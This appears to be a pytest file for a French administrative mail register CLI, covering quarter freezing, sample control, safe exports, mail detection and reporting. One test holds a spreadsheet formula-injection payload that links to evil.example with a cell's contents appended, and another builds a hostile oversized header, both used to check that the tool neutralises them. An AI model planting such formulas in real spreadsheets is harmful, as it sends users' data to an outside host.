"""Issue 13, items 5 to 9: the register refuses what is false and writes whole files.

- a quarter that has not ended cannot be frozen (13.5);
- only an answered request of a drawn sample can be controlled (13.6);
- every ``--output`` / ``--export`` is one French line on a missing folder or a
  folder, never a traceback nor a half-written file, and the file is 0600 (13.7);
Run through the real command line on a SQLite file (the CLI is what fails).
"""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
from datetime import date, datetime
from zoneinfo import ZoneInfo

import pytest
from sqlmodel import Session

from mailfactory import make_mail, reply_to
from tracer.core import config
from tracer.core.errors import UserError
from tracer.mail import ingest
from tracer.reports import control_sheet, quality
from tracer.services import Runtime

PARIS = ZoneInfo("Europe/Paris")
BOX = "pref-qualite@haute-savoie.gouv.fr"


def cli(cfg, *args, now: str | None = None):
    env = dict(os.environ)
    if now:
        env["TRACER_NOW"] = now
    return subprocess.run([sys.executable, "-m", "tracer", "--config", str(cfg), *args], capture_output=True, text=True,
                          timeout=120, env=env)


@pytest.fixture
def rt():
    return Runtime(config.from_dict({
        "tracer": {"reference_prefix": "PREF74"},
        "mailbox": [{"name": "qualite", "address": BOX, "host": "127.0.0.1", "tls": "none", "service": "qualite"}],
    }))


def put(engine, rt, raw, when, role="inbox"):
    ingest.record_batch(engine, rt, [ingest.Incoming(raw, when, "qualite", role, source="test")], when)


@pytest.fixture
def answered_and_open(engine, rt):
    """Two requests of 2026-Q3: one answered (sent copy), one never answered."""
    first = make_mail(message_id="<q1@example.org>", sender="Hélène <helene@example.org>", to=BOX,
                      subject="Réclamation accueil", body="Le guichet était fermé.")
    put(engine, rt, first, datetime(2026, 7, 6, 9, tzinfo=PARIS))
    put(engine, rt, make_mail(message_id="<q2@example.org>", sender="paul@example.org", to=BOX, subject="Horaires",
                              body="Quels sont vos horaires ?"), datetime(2026, 7, 7, 9, tzinfo=PARIS))
    put(engine, rt, reply_to("<q1@example.org>", to="helene@example.org", message_id="<r1@haute-savoie.gouv.fr>",
                             body="Nous regrettons."),
        datetime(2026, 7, 8, 9, tzinfo=PARIS), role="sent")
    with Session(engine) as session:
        from tracer.register import requests as register

        rows = register.list_cases(session, rt, status="all", as_of=datetime(2026, 12, 4, tzinfo=PARIS))
    by_id = {c["message_ids"][0]: c["reference"] for c in rows}
    return by_id["<q1@example.org>"], by_id["<q2@example.org>"]


# --------------------------------------------------------------------------
# 13.5 A quarter still in progress cannot be frozen.


def test_a_quarter_in_progress_cannot_be_frozen_and_names_its_end(engine, rt, answered_and_open):
    during = datetime(2026, 12, 2, 10, tzinfo=PARIS)
    with Session(engine) as session, pytest.raises(UserError, match=r"2026-Q4 n'est pas terminé.*31/12/2026"):
        quality.freeze(session, rt, "2026-Q4", during, "referent", during)
    with Session(engine) as session:  # nothing was frozen: it can be frozen once the quarter is over
        assert quality.frozen_quarters(session, rt) == []
    after = datetime(2027, 1, 1, 0, 0, tzinfo=PARIS)
    with Session(engine) as session, session.begin():
        quality.freeze(session, rt, "2026-Q4", after, "referent", after)
    with Session(engine) as session:
        assert [q["period"] for q in quality.frozen_quarters(session, rt)] == ["2026-Q4"]


def test_cli_refuses_to_freeze_the_current_quarter_in_one_french_line(make_config):
    cfg = make_config([{"name": "qualite", "address": BOX}])
    result = cli(cfg, "stats", "--freeze", "2026-Q4", "--by-agent", "referent", now="2026-12-02T10:00:00+01:00")
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert result.stderr.strip().splitlines() == [
        "tracer : le trimestre 2026-Q4 n'est pas terminé (il se termine le 31/12/2026) : "
        "ses chiffres se figent à partir du 01/01/2027"]


# --------------------------------------------------------------------------
# 13.6 Only an answered request of a drawn sample can be controlled.


def test_control_refuses_an_unanswered_request_and_one_outside_the_sample(engine, rt, answered_and_open):
    answered, unanswered = answered_and_open
    now = datetime(2026, 12, 4, 10, tzinfo=PARIS)
    with Session(engine) as session, pytest.raises(UserError, match="n'a pas reçu de réponse"):
        quality.control(session, rt, unanswered, "conforme", None, "referent", now)
    with Session(engine) as session, pytest.raises(UserError, match="aucun échantillon tiré"):
        quality.control(session, rt, answered, "conforme", None, "referent", now)
    with Session(engine) as session, session.begin():
        control_sheet.draw(session, rt, "2026-Q3", 5, 3, "referent", now)
        quality.control(session, rt, answered, "conforme", "RAS", "referent", now)
    with Session(engine) as session:
        assert quality.conformity(session, rt, date(2026, 7, 1), date(2026, 10, 1))["controlled"] == 1


def test_cli_sample_records_its_draw_so_its_replies_can_be_controlled(engine, rt, answered_and_open, make_config, tmp_path):
    answered, unanswered = answered_and_open
    cfg = make_config([{"name": "qualite", "address": BOX}])
    url = engine.url.render_as_string(hide_password=False)
    cfg.write_text("\n".join(f'database_url = "{url}"' if line.startswith("database_url") else line
                             for line in cfg.read_text().splitlines()) + "\n")
    refused = cli(cfg, "control", unanswered, "--result", "conforme", "--by", "referent")
    assert refused.returncode == 1 and "Traceback" not in refused.stderr and "n'a pas reçu de réponse" in refused.stderr
    refused = cli(cfg, "control", answered, "--result", "conforme", "--by", "referent")
    assert refused.returncode == 1 and "aucun échantillon tiré" in refused.stderr
    drawn = cli(cfg, "sample", "--quarter", "2026-Q3", "--size", "5", "--by", "referent", "--json")
    assert drawn.returncode == 0, drawn.stderr
    assert [i["reference"] for i in json.loads(drawn.stdout)] == [answered]
    ok = cli(cfg, "control", answered, "--result", "conforme", "--by", "referent")
    assert ok.returncode == 0, ok.stderr


# --------------------------------------------------------------------------
# 13.7 --output / --export: one French line, exit 1, no half-written file, 0600.

WRITERS = [
    ["stats", "--from", "2026-07-01", "--to", "2026-10-01", "--format", "xlsx", "--output"],
    ["stats", "--from", "2026-07-01", "--to", "2026-10-01", "--format", "csv", "--output"],
    ["stats", "--from", "2026-07-01", "--to", "2026-10-01", "--format", "html", "--output"],
    ["stats", "--from", "2026-07-01", "--to", "2026-10-01", "--format", "json", "--output"],
    ["sample", "--quarter", "2026-Q3", "--by", "referent", "--output"],
    ["digest", "--preview", "--as-of", "2026-09-20T09:00:00+02:00", "--output"],
    ["person", "helene@example.org", "--export"],
]


@pytest.fixture
def cfg_with_data(make_config, tmp_path):
    cfg = make_config([{"name": "qualite", "address": BOX}])
    (tmp_path / "mail").mkdir()
    first = make_mail(message_id="<w1@example.org>", sender="Hélène <helene@example.org>", to=BOX,
                      subject="Réclamation accueil", body="Le guichet était fermé.",
                      date=datetime(2026, 7, 6, 9, tzinfo=PARIS))
    (tmp_path / "mail" / "in.eml").write_bytes(first)
    (tmp_path / "sent.eml").write_bytes(reply_to("<w1@example.org>", to="helene@example.org", body="Nous regrettons.",
                                                 message_id="<w1r@haute-savoie.gouv.fr>",
                                                 headers={"Date": "Wed, 08 Jul 2026 09:00:00 +0200"}))
    assert cli(cfg, "import", str(tmp_path / "mail")).returncode == 0
    assert cli(cfg, "import", "--sent", str(tmp_path / "sent.eml")).returncode == 0
    return cfg


@pytest.mark.parametrize("command", WRITERS, ids=lambda c: "-".join(c[:1] + c[-3:-1]))
def test_every_output_to_a_missing_folder_or_a_folder_is_one_french_line(cfg_with_data, tmp_path, command):
    for target, says in [(tmp_path / "absent" / "x.out", "n'existe pas"), (tmp_path / "mail", "est un dossier")]:
        before = sorted(os.listdir(tmp_path / "mail"))
        result = cli(cfg_with_data, *command, str(target))
        assert result.returncode == 1, result.stdout
        assert "Traceback" not in result.stderr
        lines = result.stderr.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith("tracer : écriture impossible") and says in lines[0], lines
        assert sorted(os.listdir(tmp_path / "mail")) == before  # no temporary or half file left
        assert not (tmp_path / "absent").exists()
    good = tmp_path / "out" / "x.out"
    good.parent.mkdir()
    result = cli(cfg_with_data, *command, str(good))
    assert result.returncode == 0, result.stderr
    assert os.listdir(good.parent) == ["x.out"] and good.stat().st_size > 0
    assert stat.S_IMODE(good.stat().st_mode) == 0o600


def test_an_export_that_fails_midway_leaves_the_previous_file_whole(tmp_path):
    from tracer.core import files

    target = tmp_path / "indicateurs.xlsx"
    target.write_bytes(b"previous")

    def broken(out):
        out.write(b"half")
        raise RuntimeError("writer failed")

    with pytest.raises(RuntimeError):
        files.write_with(target, broken)
    assert target.read_bytes() == b"previous" and os.listdir(tmp_path) == ["indicateurs.xlsx"]


# --------------------------------------------------------------------------
# 13.8 Importing a folder: mail is told by its content, not its name.


def test_import_of_a_folder_reads_mail_by_content_and_names_what_it_skips(make_config, tmp_path):
    import sqlite3

    cfg = make_config([{"name": "qualite", "address": BOX}])
    folder = tmp_path / "export"
    (folder / "xl" / "_rels").mkdir(parents=True)
    (folder / "stats.html").write_text("<!DOCTYPE html>\n<html><body>Indicateurs</body></html>\n", encoding="utf-8")
    (folder / "xl" / "_rels" / "workbook.xml.rels").write_text(
        '<?xml version="1.0" encoding="UTF-8"?>\n<Relationships xmlns="x"/>', encoding="utf-8")
    (folder / "notes.txt").write_text("Date de la réunion : lundi\nÀ revoir\n", encoding="utf-8")
    live = sqlite3.connect(folder / "copie.db")  # a live WAL database leaves -wal and -shm beside it
    live.execute("PRAGMA journal_mode=WAL")
    live.execute("CREATE TABLE t (x)")
    live.execute("INSERT INTO t VALUES ('From: x')")
    live.commit()
    assert (folder / "copie.db-wal").exists() and (folder / "copie.db-shm").exists()
    mail = make_mail(message_id="<c1@example.org>", sender="paul@example.org", to=BOX, subject="Horaires",
                     date=datetime(2026, 7, 6, 9, tzinfo=PARIS))
    (folder / "message-sans-extension").write_bytes(mail)
    (folder / "courriel.html").write_bytes(mail.replace(b"<c1@", b"<c2@"))  # the name lies: it is mail
    try:
        result = cli(cfg, "import", str(folder), "--json")
    finally:
        live.close()
    assert result.returncode == 0, result.stderr
    summary = json.loads(result.stdout)
    assert (summary["recorded"], summary["quarantined"]) == (2, 0)
    assert sorted(summary["skipped"]) == sorted(str(folder / n) for n in [
        "stats.html", "xl/_rels/workbook.xml.rels", "notes.txt", "copie.db", "copie.db-wal", "copie.db-shm"])
    assert "6 fichier(s) ignoré(s), ce ne sont pas des messages" in result.stderr


def test_a_header_block_is_what_makes_mail():
    from tracer.mail.importer import looks_like_mail

    assert looks_like_mail(b"Received: from x\r\n\tby y\r\nFrom: a@b.fr\r\n\r\nbody")
    assert looks_like_mail(b"Return-Path: <a@b.fr>\nX-Spam: no\nSubject: s")  # headers only, no body
    assert not looks_like_mail(b"<html>\n<body>From: a@b.fr</body>")
    assert not looks_like_mail(b"X-Custom: 1\nX-Other: 2\n\nno field of a message")
    assert not looks_like_mail(b"\nFrom: a@b.fr\n")
    assert not looks_like_mail(b"SQLite format 3\x00")
    assert not looks_like_mail(b"nom;adresse\nJeanne;j@x.fr\n")


# --------------------------------------------------------------------------
# 13.9 show prints the message: its text (history folded), attachments, dates that took effect.


def test_show_prints_the_citizens_text_attachments_and_when_each_event_took_effect(make_config, tmp_path):
    from email.message import EmailMessage

    cfg = make_config([{"name": "qualite", "address": BOX}])
    msg = EmailMessage()
    msg["From"] = "Hélène Lefèvre <helene@example.org>"
    msg["To"] = BOX
    msg["Subject"] = "Réclamation accueil"
    msg["Message-ID"] = "<s1@example.org>"
    msg["Date"] = "Mon, 06 Jul 2026 09:00:00 +0200"
    msg.set_content("Bonjour,\n\nLe guichet était fermé à 14 h.\n\nLe 01/07/2026, la préfecture a écrit :\n"
                    "> Nos horaires : 9 h - 16 h.\n> HISTORIQUE-CITE\n")
    msg.add_attachment(b"%PDF-1.4 " + b"x" * 2039, maintype="application", subtype="pdf", filename="récépissé.pdf")
    (tmp_path / "in.eml").write_bytes(bytes(msg))
    assert cli(cfg, "import", str(tmp_path / "in.eml"), now="2026-12-04T10:00:00+01:00").returncode == 0
    (case,) = json.loads(cli(cfg, "cases", "--json").stdout)
    out = cli(cfg, "show", case["reference"])
    assert out.returncode == 0, out.stderr
    assert "Le guichet était fermé à 14 h." in out.stdout
    assert "HISTORIQUE-CITE" not in out.stdout and "ligne(s) d'historique cité masquée(s)" in out.stdout
    assert "Pièce jointe : récépissé.pdf (2 Ko)" in out.stdout
    history = out.stdout.split("Historique", 1)[1]
    first = history.splitlines()[3]  # title, head, rule, then the first event
    assert first.startswith("06/07/2026 09:00  reçue"), first  # reception, not the import day
    assert "enregistré le : 04/12/2026" in history
    shown = json.loads(cli(cfg, "show", case["reference"], "--json").stdout)
    message = shown["messages"][0]
    assert "HISTORIQUE-CITE" in message["body"] and "HISTORIQUE-CITE" not in message["text"]
    assert message["quoted_lines"] == 3
    assert message["attachments"][0]["filename"] == "récépissé.pdf"
    assert shown["events"][0]["effective_at"] == "2026-07-06T09:00:00+02:00"
    assert shown["events"][0]["at"].startswith("2026-12-04")


# --------------------------------------------------------------------------
# Issue 15, low: a text that opens like a formula stays text in CSV and XLSX.

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")'


def test_a_reply_text_opening_like_a_formula_is_text_in_the_control_grid(make_config, tmp_path):
    from openpyxl import load_workbook

    cfg = make_config([{"name": "qualite", "address": BOX}])
    first = make_mail(message_id="<f1@example.org>", sender="paul@example.org", to=BOX, subject="@SUM(1+1)",
                      date=datetime(2026, 7, 6, 9, tzinfo=PARIS))
    (tmp_path / "in.eml").write_bytes(first)
    (tmp_path / "sent.eml").write_bytes(reply_to("<f1@example.org>", to="paul@example.org", body=FORMULA + "\n",
                                                 message_id="<f1r@haute-savoie.gouv.fr>",
                                                 headers={"Date": "Wed, 08 Jul 2026 09:00:00 +0200"}))
    assert cli(cfg, "import", str(tmp_path / "in.eml")).returncode == 0
    assert cli(cfg, "import", "--sent", str(tmp_path / "sent.eml")).returncode == 0
    grid = tmp_path / "grille.csv"
    assert cli(cfg, "sample", "--quarter", "2026-Q3", "--by", "r", "--output", str(grid)).returncode == 0
    cells = [c for line in grid.read_bytes().decode("utf-8-sig").splitlines()[1:] for c in line.split(";")]
    assert not any(c.lstrip('"').startswith(("=", "+", "@")) for c in cells), cells
    assert any(c.lstrip('"').startswith("'=HYPERLINK") for c in cells)
    book = tmp_path / "grille.xlsx"
    assert cli(cfg, "sample", "--quarter", "2026-Q3", "--by", "r", "--output", str(book)).returncode == 0
    sheet = load_workbook(book).active
    texts = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert texts and all(c.data_type == "s" for c in texts)


def test_csv_cells_keep_numbers_and_quote_formula_openers():
    from tracer.reports.exports import text_cell

    assert [text_cell(v) for v in ["=1+1", "+33 4 50", "@SUM(A1)", "-2+3", "\tx", "-1,5", "-3", "12", "Réclamation", 4.5]] == [
        "'=1+1", "'+33 4 50", "'@SUM(A1)", "'-2+3", "'\tx", "-1,5", "-3", "12", "Réclamation", 4.5]


def test_a_header_longer_than_what_is_read_to_tell_mail_is_still_mail(tmp_path):
    """A hostile From: of 100 kB (found by tests/test_fuzz_headers.py): the 64 kB read
    to tell mail from other files ends mid-line; the message is imported (or
    quarantined), never skipped as « not a message »."""
    from tracer.mail.importer import HEAD_BYTES, looks_like_mail

    raw = b"From: =?utf-8?q?" + b"=1B=5D" * 20000 + b"?= <a@example.org>\r\nSubject: s\r\n\r\nbody\r\n"
    assert looks_like_mail(raw[:HEAD_BYTES])
    folder = tmp_path / "lot"
    folder.mkdir()
    (folder / "long.eml").write_bytes(raw)
    cfg = tmp_path / "tracer.toml"
    cfg.write_text(f'[tracer]\ndatabase_url = "sqlite:///{tmp_path / "t.db"}"\nreference_prefix = "PREF74"\n', encoding="utf-8")
    result = subprocess.run([sys.executable, "-m", "tracer", "--config", str(cfg), "import", str(folder), "--json"],
                            capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    summary = json.loads(result.stdout)
    assert summary["recorded"] + summary["quarantined"] == 1 and not summary.get("skipped")


# --------------------------------------------------------------------------
# 13, assignment: overdue per agent in stats --by assignee.


def test_stats_by_assignee_counts_each_agents_overdue_requests(engine, rt):
    from tracer.register import requests as register
    from tracer.reports import stats

    now = datetime(2026, 10, 15, 12, tzinfo=PARIS)
    refs = []
    with Session(engine) as session, session.begin():
        for day in (1, 2, 3):
            refs.append(register.register_paper(session, rt, received=f"2026-09-0{day}", sender="Mme Roux",
                                                sender_addr="roux@example.org", subject="Lettre", service="qualite",
                                                now=now).reference)
        register.assign(session, rt, refs[0], "alice", "chef", now)
        register.assign(session, rt, refs[1], "alice", "chef", now)
    with Session(engine) as session:
        figures = stats.compute(session, rt, date(2026, 9, 1), date(2026, 10, 1), now, ["assignee"])
    groups = {g["key"]["assignee"]: (g["received"], g["late"]) for g in figures["groups"]}
    assert groups == {"alice": (2, 2), None: (1, 1)}  # 10 working days long passed on 15 October
    result = cli_stats_by_assignee(engine)
    assert "alice" in result and "non attribuée" in result


def cli_stats_by_assignee(engine) -> str:
    from tracer.cli.tables import stats_table
    from tracer.reports import stats

    rt_ = Runtime(config.from_dict({"tracer": {"reference_prefix": "PREF74"}}))
    with Session(engine) as session:
        figures = stats.compute(session, rt_, date(2026, 9, 1), date(2026, 10, 1),
                                datetime(2026, 10, 15, tzinfo=PARIS), ["assignee"])
    from tracer.cli.tables import Output

    return Output(width=100).render(stats_table(figures, ["assignee"]))


def test_repeating_the_recorded_draw_with_its_seed_records_nothing_new(engine, rt, answered_and_open, make_config):
    from sqlalchemy import select

    from tracer.store.models import Event

    cfg = make_config([{"name": "qualite", "address": BOX}])
    url = engine.url.render_as_string(hide_password=False)
    cfg.write_text("\n".join(f'database_url = "{url}"' if line.startswith("database_url") else line
                             for line in cfg.read_text().splitlines()) + "\n")
    first = cli(cfg, "sample", "--quarter", "2026-Q3", "--size", "5", "--seed", "7", "--by", "referent", "--json")
    again = cli(cfg, "sample", "--quarter", "2026-Q3", "--size", "5", "--seed", "7", "--by", "auditeur", "--json")
    assert first.returncode == again.returncode == 0 and json.loads(first.stdout) == json.loads(again.stdout)
    with Session(engine) as session:
        draws = session.execute(select(Event).where(Event.kind == "sample_drawn")).scalars().all()
    assert [(d.actor, d.data["seed"]) for d in draws] == [("referent", 7)]


def test_a_full_disk_is_one_french_line_and_leaves_no_file(cfg_with_data, tmp_path):
    """A real full file system (a 4 kB tmpfs, root only): the workbook is never half-written."""
    full = tmp_path / "plein"
    full.mkdir()
    if os.geteuid() != 0 or subprocess.run(["mount", "-t", "tmpfs", "-o", "size=4k", "tmpfs", str(full)]).returncode != 0:
        pytest.skip("monter un tmpfs demande root")
    try:
        (full / "occupe").write_bytes(b"\0" * 3000)
        for fmt in ("xlsx", "csv", "html", "json"):
            result = cli(cfg_with_data, "stats", "--from", "2026-07-01", "--to", "2026-10-01", "--format", fmt,
                         "--output", str(full / f"x.{fmt}"))
            assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
            assert result.stderr.strip().splitlines() == [f"tracer : écriture impossible : disque plein, {full / f'x.{fmt}'} "
                                                          "n'a pas été écrit"]
            assert sorted(os.listdir(full)) == ["occupe"]
    finally:
        subprocess.run(["umount", str(full)])
